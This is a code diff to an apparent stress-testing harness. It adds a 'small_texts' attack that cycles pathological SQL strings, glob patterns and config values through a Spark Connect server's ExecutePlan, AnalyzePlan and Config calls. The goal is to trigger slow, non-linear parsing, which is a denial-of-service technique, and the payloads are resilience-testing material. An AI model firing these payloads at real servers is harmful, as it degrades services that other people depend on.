@@ -80,9 +80,14 @@ class Attacker:
         option.reattach_options.reattachable = True
         return request
 
-    def sql(self, text: str, session: str = "") -> bytes:
+    def statement(self, text: str, session: str = "", arguments: Mapping[str, str] = {}) -> base_pb2.ExecutePlanRequest:
         relation = relations_pb2.Relation(sql=relations_pb2.SQL(query=text))
-        return self.plan(relation, session).SerializeToString()
+        for name, value in arguments.items():
+            relation.sql.named_arguments[name].literal.string = value
+        return self.plan(relation, session)
+
+    def sql(self, text: str, session: str = "") -> bytes:
+        return self.statement(text, session).SerializeToString()
 
 
 def malformed_http2(attacker: Attacker) -> Iterator[None]:
@@ -208,6 +213,40 @@ def huge_sql(attacker: Attacker) -> Iterator[None]:
     with attacker.channel() as channel:
         for text in itertools.cycle(texts):
             attacker.call(channel, "ExecutePlan", attacker.sql(text, session))
+            yield
+
+
+def small_texts(attacker: Attacker) -> Iterator[None]:
+    """Texts of a few kilobytes that take long to read if their reader is not linear."""
+    pattern, path = "*a" * 1000, "/[x" + "\\a" * 500
+    statements: list[tuple[str, Mapping[str, str]]] = [
+        (f"SHOW TEMPORARY TABLES LIKE '{pattern}b'", {}),
+        (f"SELECT * FROM `dfs.tmp`.`{pattern}b`", {}),
+        (f"SELECT * FROM `dfs.tmp`.`{path}`", {}),
+        (f"SELECT * FROM `dfs.tmp`.`{'{a,b}' * 400}`", {}),
+        ("SET a=/" + "${" * 2000, {}),
+        (";ADD a b" * 500 + "${" * 500, {}),
+        ("SELECT * FROM " + "IDENTIFIER(f(" * 300 + "'a'" + "))" * 300, {}),
+        ("SELECT * FROM IDENTIFIER(" + "||".join([":a"] * 500) + ") -- `", {"a": " set x = '/y'" * 200}),
+        ("EXECUTE IMMEDIATE " + "||".join([":a"] * 500), {"a": " set x = '/y'" * 200}),
+        ("EXECUTE IMMEDIATE " + "'EXECUTE IMMEDIATE ' || " * 200 + "'1'", {}),
+        ("CREATE TEMPORARY TABLE t OPTIONS (" + "path '/a', " * 500 + "a 'b') AS SELECT 1", {}),
+        ("CREATE TEMPORARY TABLE t AS " + "WITH a AS (" * 300 + "SELECT 1" + ") SELECT 1" * 300, {}),
+        ("INSERT INTO t VALUES " + "(" * 4000, {}),
+        ("DROP TABLE " + "`a``b`." * 1000 + "t", {}),
+    ]
+    session = str(uuid.uuid4())
+    with attacker.channel() as channel:
+        for text, arguments in itertools.cycle(statements):
+            request = attacker.statement(text, session, arguments)
+            attacker.call(channel, "ExecutePlan", request.SerializeToString(), seconds=2)
+            analysis = base_pb2.AnalyzePlanRequest(session_id=session, user_context=attacker.user_context())
+            analysis.schema.plan.CopyFrom(request.plan)
+            attacker.call(channel, "AnalyzePlan", analysis.SerializeToString(), seconds=2)
+            config = base_pb2.ConfigRequest(session_id=session, user_context=attacker.user_context())
+            config.operation.set.pairs.add(key="spark.sql.warehouse.dir", value=text)
+            config.operation.set.pairs.add(key="spark.hadoop.a", value=path)
+            attacker.call(channel, "Config", config.SerializeToString(), seconds=2)
             yield
 
 
@@ -353,6 +392,7 @@ ATTACKS: Mapping[str, Callable[[Attacker], Iterator[None]]] = {
         deep_plans,
         huge_names,
         huge_sql,
+        small_texts,
         session_flood,
         request_flood,
         unread_streams,
